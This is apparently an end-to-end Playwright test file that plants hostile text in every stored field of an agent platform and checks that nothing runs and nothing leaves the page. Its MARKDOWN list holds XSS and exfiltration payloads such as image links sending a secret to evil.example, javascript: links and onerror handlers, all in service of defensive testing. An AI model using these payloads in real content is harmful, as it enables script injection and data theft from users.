"""Hostile text (S15, S16): planted in every stored field, shown in Chromium, it does nothing and asks nobody."""

import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Request, expect

from platform_app.db import Transaction, owned, session_scope
from platform_app.models.agent import Agent, AgentSettings
from platform_app.models.conversation import Author, Conversation, Message
from platform_app.models.crm import Contact
from platform_app.models.event import ActivityKind
from platform_app.models.knowledge import Category, Chunk, Source, SourceState
from platform_app.models.person import Identity
from platform_app.services.accounts import members
from platform_app.services.feed import activity
from tests import shared
from tests.conftest import forget_process_state
from tests.e2e.conftest import NewPerson, platform_environment, sign_in_at_form, started_platform

pytestmark = pytest.mark.e2e
AT_ONCE = 60
MARKDOWN = [
    "![x](http://evil.example/?q=secret)",
    "![x][r]\n\n[r]: http://evil.example/r.png",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<base href='http://evil.example/'><img src=x>",
    "<form action='http://evil.example/'><input type=submit></form>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<svg><image href='http://evil.example/x.svg' onload=alert(1)></svg>",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{http://evil.example/x.png}$",
    "<iframe src='http://evil.example/'></iframe><object data='http://evil.example/'></object>",
]
WATCH = """
window.__pwned = [];
const note = name => (...words) => window.__pwned.push(name + words);
for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = note(name);
"""


def payloads() -> list[str]:
    """Return what sanitisers are tested with, naughty strings, and Markdown that would tell others."""
    node = shutil.which("node")
    assert node, "Node is needed to read one of the files"
    module = shared.path("corpora/DOMPurify/expect.mjs")
    script = f"import({json.dumps(module.as_uri())}).then(m => console.log(JSON.stringify(m.default)))"
    listed = json.loads(subprocess.run([node, "-e", script], capture_output=True, check=True).stdout)
    naughty = json.loads(shared.path("corpora/blns/blns.json").read_text())
    found = [*MARKDOWN, *(entry["payload"] for entry in listed), *naughty]
    return [text for text in found if text.strip() and "\x00" not in text]


def line(text: str, most: int) -> str:
    return " ".join(text.split())[:most] or "-"


def plant(who: Identity, texts: list[str]) -> None:
    """Write the texts into every field that people, customers, models or documents fill."""
    with session_scope(who.tenant_id) as session:
        for start in range(0, len(texts), AT_ONCE):
            plant_talk(session, who.tenant_id, texts[start : start + AT_ONCE])
            plant_source(session, who.tenant_id, texts[start : start + AT_ONCE])
        for text in texts[:25]:
            session.add(Contact(tenant_id=who.tenant_id, name=line(text, 200)))
            session.add(Category(tenant_id=who.tenant_id, name=line(text, 120)))
            activity.record(
                session, who.tenant_id, ActivityKind.AGENT, "Agent “{name}” created", actor=line(text, 100), name=text
            )


def plant_talk(session: Transaction, tenant_id: str, texts: list[str]) -> None:
    own = AgentSettings(name=line(texts[0], 120), instructions="\n".join(texts)[:40_000])
    agent = Agent(tenant_id=tenant_id, name=own.name, draft=own.model_dump(mode="json"))
    session.add(agent)
    session.flush()
    talk = Conversation(tenant_id=tenant_id, agent_id=agent.id, title=line(texts[0], 80), use_draft=True)
    talk.last_line = line(texts[-1], 200)
    session.add(talk)
    session.flush()
    for text in texts:
        for author in (Author.CONTACT, Author.AGENT):
            said = Message(tenant_id=tenant_id, conversation_id=talk.id, author=author, text=text)
            said.author_name = line(text, 100)
            said.sources = [{"number": 1, "source_title": line(text, 300), "chunk_id": "x"}]
            session.add(said)


def plant_source(session: Transaction, tenant_id: str, texts: list[str]) -> None:
    source = Source(tenant_id=tenant_id, title=line(texts[0], 300), file_name=line(texts[1], 300), stored_as="x")
    source.state, source.error, source.generation = SourceState.READY, line(texts[1], 500), 1
    session.add(source)
    session.flush()
    for number, text in enumerate(texts):
        heading = line(text, 300)
        session.add(
            Chunk(tenant_id=tenant_id, source_id=source.id, generation=1, number=number, heading=heading, text=text)
        )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Identity]]:
    """A platform in whose demo tenant every field holds hostile text."""
    folder = tmp_path_factory.mktemp("hostile")
    environment = platform_environment(folder / "data")
    with pytest.MonkeyPatch.context() as env:
        env.setenv("PLATFORM_DATA_DIR", environment["PLATFORM_DATA_DIR"])
        env.setenv("PLATFORM_REDIS_URL", "redis://127.0.0.1:1/0")
        for address in started_platform(environment, folder):
            forget_process_state()
            with session_scope(reason="tests", read_only=True) as session:
                who = members.get_owner(session, "demo")
            plant(who, payloads())
            yield address, who
    forget_process_state()


class Guard:
    """Watches a page for anything that ran or left."""

    def __init__(self, page: Page, address: str) -> None:
        self.page, self.left = page, list[str]()
        self.host = urlsplit(address).netloc
        page.add_init_script(WATCH)
        page.on("request", self._note)
        page.on("dialog", lambda dialog: (self.left.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("popup", lambda popup: self.left.append(f"popup {popup.url}"))

    def _note(self, request: Request) -> None:
        where = urlsplit(request.url)
        if where.scheme not in ("data", "blob") and where.netloc != self.host:
            self.left.append(request.url)

    def look(self, place: str) -> None:
        assert self.page.evaluate("window.__pwned") == [], place
        assert self.left == [], place
        links = self.page.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))")
        assert [href for href in links if not re.match(r"(https?|mailto|tel):|[/#?]", href)] == [], place


def rows_of(who: Identity, model: type[Conversation] | type[Source] | type[Agent]) -> list[str]:
    with session_scope(who.tenant_id, read_only=True) as session:
        return [row.id for row in session.exec(owned(model, who.tenant_id).order_by(model.created_at.desc())).all()]


def begin(page: Page, address: str) -> Guard:
    """Sign in to the demo, under a guard that is proven to notice."""
    guard = Guard(page, address)
    sign_in_at_form(page, address)
    page.evaluate("alert(1)")
    with pytest.raises(AssertionError):
        guard.look("the guard itself")
    page.evaluate("window.__pwned = []")
    return guard


def show_all(page: Page) -> None:
    """Show an open conversation from its beginning."""
    expect(page.locator("article.message").nth(20)).to_be_attached()
    while (more := page.get_by_role("button", name="Show earlier messages")).count():
        before = page.locator("article.message").count()
        more.click()
        expect(page.locator("article.message")).not_to_have_count(before)


def test_nothing_runs_and_nothing_leaves(hostile: tuple[str, Identity], new_person: NewPerson) -> None:
    address, who = hostile
    page, home = new_person("en").new_page(), f"{address}/manage/demo"
    guard, groups = begin(page, address), -(-len(payloads()) // AT_ONCE)
    for path in ("", "/agents", "/knowledge", "/test-chat"):
        page.goto(home + path)
        expect(page.locator("h1").first).to_be_attached()
        expect(page.locator("[aria-busy=true]")).to_have_count(0)
        guard.look(path)
    for talk in rows_of(who, Conversation)[:groups]:
        page.goto(f"{home}/test-chat?c={talk}")
        show_all(page)
        guard.look(f"conversation {talk}")
    for source in rows_of(who, Source)[:groups]:
        page.goto(f"{home}/knowledge/{source}")
        expect(page.locator(".passage-text, .card").first).to_be_visible()
        guard.look(f"source {source}")
    for agent in rows_of(who, Agent)[:3]:
        page.goto(f"{home}/agents/{agent}?tab=instructions")
        expect(page.locator("#instructions")).to_be_visible()
        guard.look(f"agent {agent}")
    page.goto(f"{home}/knowledge")
    page.get_by_role("button", name="Categories").click()
    expect(page.get_by_role("dialog")).to_be_visible()
    guard.look("categories")
    stored = page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}])")
    assert "session=" not in stored and "argon2" not in stored
